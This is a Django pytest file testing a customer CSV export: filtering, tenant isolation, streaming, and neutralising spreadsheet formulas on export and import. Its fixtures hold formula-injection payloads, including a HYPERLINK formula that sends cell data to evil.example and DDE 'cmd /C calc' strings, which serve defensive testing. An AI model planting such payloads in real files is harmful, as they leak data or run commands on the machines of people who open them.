"""CSV export of the filtered change list, streamed in batches, with formula cells neutralised;
the import's rule for such cells (issue 18, item 5; docs/csv.md)."""

from __future__ import annotations

import csv
import io
import math

import pytest
from django.core.management import call_command
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from customers import csv_io
from customers.models import Customer
from customers.selectors import customers_for_tenant
from customers.services import customers_import
from stores.services import customer_store_link
from tests.admin_support import admin_client, make_staff
from tests.factories import ClientTypeFactory, CustomerFactory

pytestmark = pytest.mark.django_db
EXPORT_URL = reverse("admin:customers_customer_export")

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "local_name": "+1+2",
    "first_name": "-2+3+cmd|' /C calc'!A0",
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "\t=1+1",
    "discord_display_name": "\r=1+1",
}


def table(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def download(response) -> str:
    assert response.status_code == 200, response.status_code
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def tenant_admin(world):
    return admin_client(make_staff(world.admin))


# --- what is exported ------------------------------------------------------------------------


def test_the_export_is_the_filtered_and_searched_change_list_every_page(world, other, tenant_admin):
    wanted = CustomerFactory.create_batch(
        60, tenant=world.tenant, name="Ada", source="API", is_active=True
    )
    CustomerFactory(tenant=world.tenant, name="Ada", source="MANUAL")  # filtered out
    CustomerFactory(tenant=world.tenant, name="Bob", source="API")  # not found by the search
    CustomerFactory.create_batch(3, tenant=other.tenant, name="Ada", source="API")
    changelist = tenant_admin.get(
        reverse("admin:customers_customer_changelist"), {"q": "Ada", "source__exact": "API"}
    )
    assert changelist.context["cl"].result_count == 60  # two pages of 50 on screen
    link = reverse("admin:customers_customer_export") + "?q=Ada&amp;source__exact=API"
    assert link in changelist.content.decode()

    rows = table(download(tenant_admin.get(EXPORT_URL, {"q": "Ada", "source__exact": "API"})))
    assert sorted(row["id"] for row in rows) == sorted(str(c.uuid) for c in wanted)
    assert [int(row["customer_id"]) for row in rows] == sorted(c.pk for c in wanted)


def test_related_filters_filter_the_export(world, tenant_admin):
    vip = ClientTypeFactory(tenant=world.tenant, name="vip")
    linked = CustomerFactory.create_batch(2, tenant=world.tenant, tags=[vip])
    for customer in linked[:1]:
        customer_store_link(customer=customer, store=world.store2)
    CustomerFactory(tenant=world.tenant)
    rows = table(download(tenant_admin.get(EXPORT_URL, {"tags__id__exact": vip.pk})))
    assert sorted(row["id"] for row in rows) == sorted(str(c.uuid) for c in linked)
    query = {"tags__id__exact": vip.pk, "store_links__store__id__exact": str(world.store2.pk)}
    rows = table(download(tenant_admin.get(EXPORT_URL, query)))
    assert [row["id"] for row in rows] == [str(linked[0].uuid)]


def test_an_export_never_holds_another_tenants_rows(world, other, tenant_admin):
    mine = CustomerFactory.create_batch(3, tenant=world.tenant)
    CustomerFactory.create_batch(3, tenant=other.tenant, name="Theirs")
    everyone = {str(c.uuid) for c in Customer.objects.filter(tenant=world.tenant)}
    assert {str(c.uuid) for c in mine} <= everyone
    rows = table(download(tenant_admin.get(EXPORT_URL)))
    assert {row["id"] for row in rows} == everyone
    # a forged filter on the other tenant: refused, or empty; never their rows
    response = tenant_admin.get(EXPORT_URL, {"tenant__id__exact": str(other.tenant.pk)})
    if response.status_code == 200:
        assert "Theirs" not in download(response)
    else:
        assert response.status_code in (302, 400)
    # the command exports one tenant
    out = io.StringIO()
    call_command("export_customers", "--tenant", "acme", "--no-progress", stdout=out)
    assert {row["id"] for row in table(out.getvalue())} == everyone


def test_the_selection_action_streams_the_same_format(world, tenant_admin):
    chosen = CustomerFactory(tenant=world.tenant, name=FORMULAS["name"])
    CustomerFactory(tenant=world.tenant)
    response = tenant_admin.post(
        reverse("admin:customers_customer_changelist"),
        {"action": "export_csv", "_selected_action": [chosen.pk]},
    )
    rows = table(download(response))
    assert [row["id"] for row in rows] == [str(chosen.uuid)]
    assert rows[0]["name"] == "'" + FORMULAS["name"]


def test_exporting_needs_a_login(world):
    from django.test import Client

    response = Client().get(EXPORT_URL)
    assert response.status_code == 302 and "/login/" in response["Location"]


# --- formulas -----------------------------------------------------------------------------


def test_cells_a_spreadsheet_would_run_are_neutralised_by_every_writer(world, tenant_admin):
    tag = ClientTypeFactory(tenant=world.tenant, name="=vip")
    customer = CustomerFactory(
        tenant=world.tenant, phone="+31201234567", credit="-12.50", tags=[tag], **FORMULAS
    )
    texts = {
        "csv_io": csv_io.export_csv_text(customers_for_tenant(tenant=world.tenant)),
        "admin": download(tenant_admin.get(EXPORT_URL)),
    }
    out = io.StringIO()
    call_command("export_customers", "--tenant", "acme", "--no-progress", stdout=out)
    texts["command"] = out.getvalue()
    for writer, text in texts.items():
        row = next(r for r in table(text) if r["id"] == str(customer.uuid))
        for column, value in FORMULAS.items():
            assert row[column] == "'" + value, (writer, column)
        assert row["phone"] == "'+31201234567", writer
        assert row["tags"] == "'=vip", writer
        assert row["credit"] == "-12.50", writer  # a number is the hub's own: as it is
        for column, value in row.items():
            if column != "credit":
                assert not value.startswith(csv_io.FORMULA_STARTS), (writer, column, value)


def test_an_export_reimports_unchanged(world):
    tag = ClientTypeFactory(tenant=world.tenant, name="-vip")
    customer = CustomerFactory(
        tenant=world.tenant, phone="+31201234567", credit="-12.50", tags=[tag], **FORMULAS
    )
    before = Customer.objects.filter(pk=customer.pk).values(*FORMULAS, "phone", "credit").get()
    text = csv_io.export_csv_text(customers_for_tenant(tenant=world.tenant))
    report = customers_import(
        tenant=world.tenant, rows=csv_io.read_rows(io.StringIO(text)), dry_run=False
    )
    assert report.errors == [] and report.updated >= 1
    after = Customer.objects.filter(pk=customer.pk).values(*FORMULAS, "phone", "credit").get()
    assert after == before
    assert [t.name for t in customer.tags.all()] == ["-vip"]


def test_the_import_refuses_formulas_that_are_not_protected(world):
    text = (
        "name,phone,credit,notes\n"
        '"=HYPERLINK(""http://evil.example"",""x"")",,,\n'  # 2: refused
        "Phone,+31 20 123 4567,-5,\n"  # 3: a phone and a number: accepted
        "'=SUM(A1),,,'- call back\n"  # 4: protected: imported as the text after it
        "Dash,,,- call back\n"  # 5: refused
        "@alice,,,\n"  # 6: refused
        '"\t+1+2",,,\n'  # 7: refused (the tab is stripped, the + stays)
    )
    report = customers_import(
        tenant=world.tenant, rows=csv_io.read_rows(io.StringIO(text)), dry_run=True
    )
    assert [line for line, _ in report.errors] == [2, 5, 6, 7]
    messages = dict(report.errors)
    assert messages[2].startswith("name: '=HYPERLINK(")
    assert "formula" in messages[2] and "apostrophe" in messages[2]
    assert messages[5].startswith("notes: '- call back'")
    text = "name,phone,credit,notes\nPhone,+31 20 123 4567,-5,\n'=SUM(A1),,,'- call back\n"
    report = customers_import(
        tenant=world.tenant, rows=csv_io.read_rows(io.StringIO(text)), dry_run=False
    )
    assert report.errors == []
    assert Customer.objects.get(tenant=world.tenant, name="=SUM(A1)").notes == "- call back"
    phone = Customer.objects.get(tenant=world.tenant, name="Phone")
    assert (phone.phone, str(phone.credit)) == ("+31201234567", "-5.00")


# --- streaming ------------------------------------------------------------------------------


def test_the_first_bytes_leave_before_any_query(world, tenant_admin):
    CustomerFactory.create_batch(3, tenant=world.tenant)
    response = tenant_admin.get(EXPORT_URL)
    chunks = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as queries:
        first = next(chunks)
    assert first.decode().splitlines() == [",".join(csv_io.COLUMNS)]
    assert len(queries) == 0
    rest = b"".join(chunks).decode().splitlines()
    assert len(rest) == Customer.objects.filter(tenant=world.tenant).count()


@pytest.mark.parametrize("count", [5, 45])
def test_an_export_costs_two_queries_per_batch(world, count):
    vip = ClientTypeFactory(tenant=world.tenant, name="vip")
    CustomerFactory.create_batch(count, tenant=world.tenant, tags=[vip])
    queryset = customers_for_tenant(tenant=world.tenant)
    total = queryset.count()
    with CaptureQueriesContext(connection) as queries:
        text = "".join(csv_io.export_chunks(queryset, batch_size=10))
    assert len(table(text)) == total
    assert len(queries) <= 2 * math.ceil(total / 10) + 1
    assert sum("vip" in row["tags"] for row in table(text)) == count
